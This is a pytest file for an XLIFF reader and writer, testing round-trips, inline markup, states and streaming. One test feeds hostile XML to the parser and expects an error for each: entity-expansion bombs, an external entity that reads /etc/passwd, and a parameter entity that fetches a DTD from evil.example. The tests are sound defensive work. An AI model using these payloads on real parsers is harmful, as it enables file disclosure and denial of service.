"""XLIFF: what is written is read back, in every version, and what tools make of it is understood."""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from bitext.errors import UnreadableError
from bitext.exchange.values import ReturnedUnit, joined_marks, sent_digest
from bitext.exchange.xliff import VERSIONS, Version, format_xliff, parse_xliff
from bitext.markdown.codes import Mark, cut_codes, marks_of, put_back
from sent_files import EXAMPLE, sent, unit
from strategies import NOISE, PARAGRAPHS

TEXTS = st.one_of(
    PARAGRAPHS, NOISE, st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=30)
).filter(bool)


def returned(text: str) -> list[ReturnedUnit]:
    return list(parse_xliff(text.encode(), "back.xlf"))


@pytest.mark.parametrize("version", VERSIONS)
def test_what_is_written_is_read_back(version: Version) -> None:
    found = returned(format_xliff(EXAMPLE, version))
    (page,) = EXAMPLE.pages
    assert [(each.page, each.id, each.locale) for each in found] == [
        (page.name, u.id, "de") for u in page.units
    ]
    assert [each.source for each in found] == [marks_of(u.source) for u in page.units]
    assert [each.target for each in found] == [marks_of(u.target) for u in page.units]
    assert [each.source_text for each in found] == [
        "Click **Save** & go to [it](a.md).", "Run `a < b`.", "Copy the *new* key.", "One.",
    ]  # fmt: skip
    assert [each.state for each in found] == ["translated", "", "draft", "draft"]


@pytest.mark.parametrize("version", VERSIONS)
def test_a_file_that_nobody_touched_says_so(version: Version) -> None:
    for prefill in (False, True):
        for each, own in zip(
            returned(format_xliff(EXAMPLE, version, prefill=prefill)), EXAMPLE.pages[0].units, strict=True
        ):
            assert each.sent == sent_digest(each.state, put_back(each.target, own.source, own.target).text)


@pytest.mark.parametrize("version", VERSIONS)
@given(st.lists(st.tuples(TEXTS, TEXTS), min_size=1, max_size=4))
def test_any_text_comes_back(version: Version, texts: list[tuple[str, str]]) -> None:
    units = [unit(f"b8832-{n}", *pair, "translated", block=n % 2) for n, pair in enumerate(texts, 101)]
    for given_back, own, pair in zip(
        returned(format_xliff(sent(*units), version)), units, texts, strict=True
    ):
        assert given_back.source == marks_of(own.source)
        assert put_back(given_back.target, own.source, own.target) == (pair[1], ())


@pytest.mark.parametrize("version", ["2.1", "2.0"])
def test_the_form_of_the_second_generation(version: Version) -> None:
    text = format_xliff(EXAMPLE, version)
    tree = etree.fromstring(text.encode())
    assert (tree.get("version"), tree.get("srcLang"), tree.get("trgLang")) == (version, "en", "de")
    assert (
        '<pc id="1" canCopy="no" canDelete="no" type="fmt" subType="xlf:b" dataRefStart="d1" dataRefEnd="d1">'
        in text
    )
    assert '<ph id="1" canCopy="no" canDelete="no" type="other" dataRef="d1"/>' in text
    assert '<data id="d1">`a &lt; b`</data>' in text
    assert text.count("<group ") == 3
    assert '<note category="context">heading</note>' in text
    assert '<note category="earlier source">Copy the *key*.</note>' in text
    assert 'matchSuitability="80.0" similarity="80.0" origin="earlier text of this unit"' in text
    # XLIFF 2.1, 4.2.2.6: extensions, then notes, then data, then segments.
    for each in tree.iter("{*}unit"):
        names = [etree.QName(child).localname for child in each]
        assert names == sorted(names, key=["matches", "notes", "originalData", "segment"].index)


def test_the_form_of_the_first_generation() -> None:
    text = format_xliff(EXAMPLE, "1.2")
    assert '<g id="1" ctype="bold" clone="no" equiv-text="**" bitext:end="**">Save</g>' in text
    assert '<x id="1" ctype="x-code" clone="no" equiv-text="`a &lt; b`"/>' in text
    assert '<alt-trans match-quality="80%" origin="earlier text of this unit">' in text
    assert '<note from="earlier source">Copy the *key*.</note>' in text
    assert '<target state="needs-review-translation">Eins.</target>' in text


@pytest.mark.parametrize("version", VERSIONS)
def test_a_missing_target_is_no_element_or_the_source(version: Version) -> None:
    plain, filled = format_xliff(EXAMPLE, version), format_xliff(EXAMPLE, version, prefill=True)
    assert (plain.count("<target"), filled.count("<target")) == (4, 5)
    assert returned(filled)[1].target == returned(filled)[1].source


def file_1(body: str) -> str:
    return (
        '<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"><file original="a.md" source-language="en"'
        f' target-language="de"><body>{body}</body></file></xliff>'
    )


def file_2(body: str, version: str = "2.1") -> str:
    core = "2.2" if version == "2.2" else "2.0"
    return (
        f'<xliff version="{version}" xmlns="urn:oasis:names:tc:xliff:document:{core}" srcLang="en" trgLang="de">'
        f'<file id="f1" original="a.md">{body}</file></xliff>'
    )


def tagged(marked: tuple[str | Mark, ...]) -> str:
    return joined_marks(
        marked, {each: f"<{each.id} {each.role}>" for each in marked if isinstance(each, Mark)}
    )


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        pytest.param('a <g id="1">b</g>', "a <1 open>b<1 close>", id="g"),
        pytest.param('a<x id="2"/>', "a<2 alone>", id="x"),
        pytest.param('<bx id="3" rid="1"/>b<ex id="4" rid="1"/>', "<1 open>b<1 close>", id="bx-ex"),
        pytest.param('<bpt id="1">**</bpt>b<ept id="1">**</ept>', "<1 open>b<1 close>", id="bpt-ept"),
        pytest.param('a<ph id="2">`b`</ph>', "a<2 alone>", id="ph"),
        pytest.param('<mrk mtype="seg" mid="0">a <g id="1">b</g></mrk> <mrk mtype="seg" mid="1">c</mrk>', "a <1 open>b<1 close> c", id="mrk"),
        pytest.param("a<!-- b -->c<![CDATA[<d>]]>", "ac<d>", id="comment-and-cdata"),
        pytest.param("a<new/>", "a<new alone>", id="unknown-element"),
    ],
)  # fmt: skip
def test_inline_elements_of_the_first_generation(target: str, expected: str) -> None:
    (found,) = returned(
        file_1(f'<trans-unit id="u"><source>x</source><target>{target}</target></trans-unit>')
    )
    assert tagged(found.target) == expected


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        pytest.param('a <pc id="1">b</pc>', "a <1 open>b<1 close>", id="pc"),
        pytest.param('a<ph id="2"/>', "a<2 alone>", id="ph"),
        pytest.param('<sc id="1"/>b<ec startRef="1"/>', "<1 open>b<1 close>", id="sc-ec"),
        pytest.param('<sc id="1" isolated="yes"/>b<ec id="1" isolated="yes"/>', "<1 open>b<1 close>", id="isolated"),
        pytest.param('<mrk id="m" type="term">a</mrk><sm id="n"/>b<em startRef="n"/>', "ab", id="annotations"),
        pytest.param('a<cp hex="0001"/>b<cp hex="zz"/>c<cp hex="FFFFFFFF"/>', "a\x01bc", id="characters"),
    ],
)  # fmt: skip
def test_inline_elements_of_the_second_generation(target: str, expected: str) -> None:
    (found,) = returned(
        file_2(f'<unit id="u"><segment><source>x</source><target>{target}</target></segment></unit>')
    )
    assert tagged(found.target) == expected


@pytest.mark.parametrize("version", ["2.0", "2.1", "2.2"])
def test_a_unit_in_several_segments(version: str) -> None:
    body = (
        '<unit id="u"><segment state="final"><source>a</source><target>A</target></segment>'
        "<ignorable><source> </source></ignorable>"
        '<segment state="translated"><source>b</source><target>B</target></segment></unit>'
    )
    (found,) = returned(file_2(body, version))
    assert (found.source, found.target, found.state, found.locale) == (("a b",), ("A B",), "translated", "de")
    (half,) = returned(file_2(body.replace("<target>B</target>", "")))
    assert half.target == ()
    (turned,) = returned(
        file_2(body.replace("<target>A", '<target order="3">A').replace("<target>B", '<target order="1">B'))
    )
    assert turned.target == ("B A",)


@pytest.mark.parametrize(
    ("state", "expected"),
    [("final", "translated"), ("signed-off", "translated"), ("translated", "translated"), ("needs-review-l10n", "draft"),
     ("needs-translation", "draft"), ("new", ""), ("", ""), ("x-own", "")],
)  # fmt: skip
def test_states_of_the_first_generation(state: str, expected: str) -> None:
    (found,) = returned(
        file_1(f'<trans-unit id="u"><source>x</source><target state="{state}">y</target></trans-unit>')
    )
    assert found.state == expected


@pytest.mark.parametrize(
    ("states", "expected"),
    [(["translated"], "translated"), (["reviewed"], "translated"), (["final"], "translated"), (["initial"], "draft"),
     (["final", "initial"], "draft"), ([""], ""), (["final", ""], "")],
)  # fmt: skip
def test_states_of_the_second_generation(states: list[str], expected: str) -> None:
    said = [f' state="{each}"' if each else "" for each in states]
    segments = "".join(f"<segment{each}><source>x</source><target>y</target></segment>" for each in said)
    (found,) = returned(file_2(f'<unit id="u">{segments}</unit>'))
    assert found.state == expected


def test_lines_are_those_of_the_file() -> None:
    text = format_xliff(EXAMPLE)
    lines = text.splitlines()
    assert all(f'<unit id="{each.id}"' in lines[each.line - 1] for each in returned(text))


def test_a_code_that_has_no_partner_stands_alone() -> None:
    text = format_xliff(sent(unit("u", "a <b>c")))
    assert "<pc" not in text
    assert "<ph" in text


def test_a_file_of_many_units_is_read_as_a_stream() -> None:
    units = [unit(f"b8832-{n}", "One **two** three.") for n in range(101, 5101)]
    found = parse_xliff(format_xliff(sent(*units)).encode())
    assert next(found).id == "b8832-101"
    assert sum(1 for _ in found) == 4999


ATTACKS: dict[str, tuple[Callable[[], bytes], str]] = {
    "billion-laughs": (
        lambda: b'<!DOCTYPE xliff [<!ENTITY a "ha">'
        + b"".join(b'<!ENTITY %c "%s">' % (n, b"&%c;" % (n - 1) * 10) for n in range(98, 108))
        + b"]><xliff><file><unit id='&k;'/></file></xliff>",
        "declares a document type of its own",
    ),
    "external-entity": (
        lambda: b'<!DOCTYPE xliff [<!ENTITY e SYSTEM "file:///etc/passwd">]><xliff>&e;</xliff>',
        "declares a document type of its own",
    ),
    "parameter-entity": (
        lambda: b'<!DOCTYPE xliff [<!ENTITY % e SYSTEM "http://evil.example/e.dtd"> %e;]><xliff/>',
        "declares a document type of its own",
    ),
    "unknown-entity": (lambda: file_2('<unit id="u"><segment><source>&nbsp;</source></segment></unit>').encode(), "no XML"),
    "long-text": (lambda: b"<xliff><file><unit><segment><source>" + b"a" * 11_000_000, "no XML that can be read"),
    "many-levels": (lambda: b"<xliff>" + b"<group>" * 100_000, "no XML that can be read"),
    "nul": (lambda: file_2("<unit id='u\0'/>").encode(), "no XML that can be read"),
    "cut": (lambda: format_xliff(EXAMPLE).encode()[:-200], "no XML that can be read"),
    "utf-7": (lambda: b'<?xml version="1.0" encoding="utf-7"?><xliff/>', "the encoding is utf-7"),
    "latin": (lambda: "<xliff>é</xliff>".encode("latin-1"), "no UTF-8"),
}  # fmt: skip


@pytest.mark.parametrize("kind", ATTACKS)
def test_what_could_do_harm_is_an_error_with_its_file(kind: str) -> None:
    make, message = ATTACKS[kind]
    with pytest.raises(UnreadableError) as caught:
        list(parse_xliff(make(), "back.xlf"))
    assert message in caught.value.message
    assert caught.value.path == "back.xlf"


def test_many_codes_in_one_unit_take_no_square_of_time() -> None:
    coded = cut_codes("**a** `b` " * 4_000)
    text = format_xliff(sent(unit("u", "**a** `b` " * 4_000)))
    assert returned(text)[0].source == marks_of(coded)


def test_a_prefix_of_another_name_makes_no_difference() -> None:
    text = format_xliff(EXAMPLE, "1.2")
    moved = re.sub(r"<(/?)(?=[a-z])", r"<\1x:", text).replace('xmlns="urn', 'xmlns:x="urn')
    assert [each.target for each in returned(moved)] == [each.target for each in returned(text)]
